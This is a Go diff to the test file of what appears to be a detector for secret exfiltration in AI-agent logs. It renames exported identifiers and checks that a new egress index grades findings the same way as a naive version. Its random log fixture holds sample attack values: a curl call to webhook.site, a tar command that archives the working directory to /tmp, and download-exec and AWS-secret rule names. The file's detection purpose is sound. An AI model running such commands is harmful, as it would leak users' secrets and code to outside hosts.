@@ -12,7 +12,7 @@ import (
 
 // analyzeNaive is Analyze as it was before the egress index: every secret
 // access walks every later record. The index must find the same.
-func analyzeNaive(entries []Entry) (findings, attempts []Finding) {
+func analyzeNaive(entries []Entry) (findings, attempts []finding) {
 	var recs []indexed
 	for _, e := range entries {
 		if e.Err == nil {
@@ -23,27 +23,27 @@ func analyzeNaive(entries []Entry) (findings, attempts []Finding) {
 	for i, x := range recs {
 		r := x.r
 		secretDecision := r.Event == "decision" && isSecretRule(r.Rule)
-		lone := r.Event == "outcome" && !used[i] && (isSecretRule(r.Rule) || len(SecretDigests(r)) > 0)
+		lone := r.Event == "outcome" && !used[i] && (isSecretRule(r.Rule) || len(secretDigests(r)) > 0)
 		if !secretDecision && !lone {
 			continue
 		}
-		fd := Finding{Session: r.Session, Credential: credentialLabel(r), Read: r.Effective != "block",
-			Timeline: []Step{{PhaseSecret, x.line, r}}}
+		fd := finding{Session: r.Session, Credential: credentialLabel(r), Read: r.Effective != "block",
+			Timeline: []step{{phaseSecret, x.line, r}}}
 		if lone {
-			fd.Digests = SecretDigests(r)
+			fd.Digests = secretDigests(r)
 		} else if fd.Read {
 			for j := i + 1; j < len(recs); j++ {
 				o := recs[j].r
 				if o.Event == "outcome" && !used[j] && outcomeKey(o) == outcomeKey(r) {
 					used[j] = true
-					fd.Digests = SecretDigests(o)
-					fd.Timeline = append(fd.Timeline, Step{PhaseSecret, recs[j].line, o})
+					fd.Digests = secretDigests(o)
+					fd.Timeline = append(fd.Timeline, step{phaseSecret, recs[j].line, o})
 					break
 				}
 			}
 		}
 		gradeNaive(&fd, recs[i+1:])
-		if !fd.Read && fd.Grade == Possible {
+		if !fd.Read && fd.Grade == possible {
 			attempts = append(attempts, fd)
 			continue
 		}
@@ -53,8 +53,8 @@ func analyzeNaive(entries []Entry) (findings, attempts []Finding) {
 	return findings, attempts
 }
 
-func gradeNaive(fd *Finding, after []indexed) {
-	fd.Grade = Possible
+func gradeNaive(fd *finding, after []indexed) {
+	fd.Grade = possible
 	if fd.Read {
 		fd.Why = "a secret was read; nothing in the log ties it to egress"
 	} else {
@@ -66,25 +66,25 @@ func gradeNaive(fd *Finding, after []indexed) {
 			continue
 		}
 		sameSession := r.Session == fd.Session
-		hit := shared(fd.Digests, PayloadDigests(r))
+		hit := shared(fd.Digests, payloadDigests(r))
 		host := collectorHost(r.Target)
 		exfil := sameSession && (isExfilRule(r.Rule) || host != "")
 		switch {
 		case hit != "":
-			fd.Timeline = append(fd.Timeline, Step{PhaseEgress, x.line, r})
+			fd.Timeline = append(fd.Timeline, step{phaseEgress, x.line, r})
 			if r.Effective != "block" {
-				fd.Grade = Confirmed
+				fd.Grade = confirmed
 				fd.Why = "the secret's own digest (" + hit + ") reappeared in an outbound payload the gate let through"
 				return
 			}
-			if fd.Grade < Probable {
-				fd.Grade = Probable
+			if fd.Grade < probable {
+				fd.Grade = probable
 				fd.Why = "the secret's own digest (" + hit + ") reappeared in an outbound call; the gate blocked that call"
 			}
 		case exfil:
-			fd.Timeline = append(fd.Timeline, Step{PhaseEgress, x.line, r})
-			if fd.Read && fd.Grade < Probable {
-				fd.Grade = Probable
+			fd.Timeline = append(fd.Timeline, step{phaseEgress, x.line, r})
+			if fd.Read && fd.Grade < probable {
+				fd.Grade = probable
 				switch {
 				case host != "":
 					fd.Why = "after the secret was read, the same session called a known collector (" + host + ")"
@@ -94,11 +94,11 @@ func gradeNaive(fd *Finding, after []indexed) {
 				if r.Effective == "block" {
 					fd.Why += "; the gate blocked that call"
 				}
-			} else if !fd.Read && fd.Grade == Possible {
+			} else if !fd.Read && fd.Grade == possible {
 				fd.Why = "a secret read was attempted and blocked; the same session then tried egress (see timeline)"
 			}
 		case sameSession && isStaging(r):
-			fd.Timeline = append(fd.Timeline, Step{PhaseStaging, x.line, r})
+			fd.Timeline = append(fd.Timeline, step{phaseStaging, x.line, r})
 		}
 	}
 }
@@ -126,13 +126,13 @@ func TestEgressIndexGradesAsBefore(t *testing.T) {
 			case 1:
 				r.Event, r.Tool = "outcome", "Read"
 				if rng.IntN(2) == 0 {
-					r.Detail = SecretDigestKey + "=" + digest(rng.IntN(3))
+					r.Detail = secretDigestKey + "=" + digest(rng.IntN(3))
 				}
 				if rng.IntN(3) == 0 {
 					r.Rule = "secrets.aws"
 				}
 			case 2:
-				r.Detail = PayloadDigestsKey + "=" + digest(rng.IntN(3)) + "," + digest(9)
+				r.Detail = payloadDigestsKey + "=" + digest(rng.IntN(3)) + "," + digest(9)
 			case 3:
 				r.Target = "curl https://webhook.site/x"
 			case 4:
@@ -141,7 +141,7 @@ func TestEgressIndexGradesAsBefore(t *testing.T) {
 				r.Target = "tar czf /tmp/x.tgz ."
 			case 6:
 				r.Rule = "exec.download-exec"
-				r.Detail = PayloadDigestsKey + "=" + digest(rng.IntN(3))
+				r.Detail = payloadDigestsKey + "=" + digest(rng.IntN(3))
 			}
 			rs = append(rs, r)
 		}
@@ -155,7 +155,7 @@ func TestEgressIndexGradesAsBefore(t *testing.T) {
 			grades[f.Grade]++
 		}
 	}
-	if grades[Confirmed] == 0 || grades[Probable] == 0 || grades[Possible] == 0 {
+	if grades[confirmed] == 0 || grades[probable] == 0 || grades[possible] == 0 {
 		t.Fatalf("the random logs do not reach every grade: %v", grades)
 	}
 }
